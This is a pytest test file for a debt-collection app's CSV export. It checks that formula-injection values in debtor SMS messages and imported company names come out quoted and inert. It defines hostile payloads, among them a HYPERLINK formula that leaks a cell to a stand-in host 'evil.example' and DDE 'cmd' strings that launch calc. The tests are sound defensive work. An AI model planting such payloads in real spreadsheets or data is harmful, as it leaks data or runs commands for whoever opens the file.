"""Issue 17.5: CSV formula injection. A debtor's SMS or an imported company name that starts a
spreadsheet formula reaches every CSV Relance hands out as inert text."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from relance.conversations.repository import conversation_for_debtor
from relance.csv_export import csv_bytes, safe_cell
from relance.db.base import utcnow
from relance.db.models import Debtor
from relance.evidence.service import build_pack
from relance.portfolio.importer import import_rows
from relance.privacy.export import build_export
from tests.factories import make_debtor, make_invoice, make_message

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for your receipt")'
PAYLOADS = (
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_quoted(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["-12.50", "+33 6 12 34 56 78", "+33612345678", "Bonjour", "", 42, -3, None, "a=b"]
)
def test_plain_values_are_left_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_csv_bytes_quotes_header_and_cells() -> None:
    text = csv_bytes(["=bad header", "ok"], [[HYPERLINK, "fine"]]).decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'=bad header", "ok"], ["'" + HYPERLINK, "fine"]]


def _cells(archive: zipfile.ZipFile) -> list[str]:
    """Every cell of every CSV in the ZIP."""
    cells: list[str] = []
    for name in archive.namelist():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(archive.read(name).decode())):
                cells += row
    return cells


def _debtor_with_payloads(db: Session) -> Debtor:
    """The attack as it arrives: a company name in an imported portfolio, an SMS from the
    debtor."""
    row = {
        "customer_number": "INJ-001",
        "name": "Max Mustermann",
        "company": "=cmd|' /C calc'!A0",
        "phone": "+33639981234",
        "invoice_number": "F-INJ-1",
        "amount": "120.00",
        "currency": "EUR",
        "issue_date": "2026-10-01",
        "due_date": "2026-11-01",
    }
    report = import_rows(db, [row], actor="test")
    assert not getattr(report, "errors", None)
    debtor = db.scalars(select(Debtor).where(Debtor.customer_number == "INJ-001")).one()
    assert debtor.company == "=cmd|' /C calc'!A0"
    message = make_message(
        db,
        conversation_for_debtor(db, debtor),
        channel="sms",
        direction="inbound",
        created_at=utcnow() - timedelta(hours=1),
    )
    message.body = HYPERLINK
    db.flush()
    return debtor


def _assert_inert(archive: zipfile.ZipFile, *expected: str) -> None:
    cells = _cells(archive)
    for payload in expected:
        assert "'" + payload in cells, f"{payload!r} missing or not quoted"
    dangerous = [
        c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and safe_cell(c) != c
    ]
    assert not dangerous


def test_evidence_pack_csvs_carry_no_live_formula(db: Session) -> None:
    debtor = _debtor_with_payloads(db)
    archive = zipfile.ZipFile(io.BytesIO(build_pack(db, debtor, actor="test")))
    _assert_inert(archive, HYPERLINK)


def test_privacy_export_csvs_carry_no_live_formula(db: Session, tmp_path: Path) -> None:
    debtor = _debtor_with_payloads(db)
    archive = zipfile.ZipFile(io.BytesIO(build_export(db, debtor, actor="test")))
    _assert_inert(archive, HYPERLINK, "=cmd|' /C calc'!A0")
    # the machine-readable JSON keeps the exact text the debtor wrote
    assert HYPERLINK.replace('"', '\\"') in archive.read("export.json").decode()


def test_every_debtor_row_export_goes_through_the_safe_writer(db: Session) -> None:
    """A second debtor with a different payload: the writer does not depend on the column."""
    debtor = make_debtor(
        db,
        company="@SUM(1+9)*cmd|' /C calc'!A0",
        name="-2+3+cmd|' /C calc'!A0",
        channels=("sms", "whatsapp"),
    )
    make_invoice(db, debtor, due=utcnow().date(), number="+F-1")
    archive = zipfile.ZipFile(io.BytesIO(build_export(db, debtor, actor="test")))
    _assert_inert(archive, "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+F-1")
    pack = zipfile.ZipFile(io.BytesIO(build_pack(db, debtor, actor="test")))
    _assert_inert(pack, "+F-1")
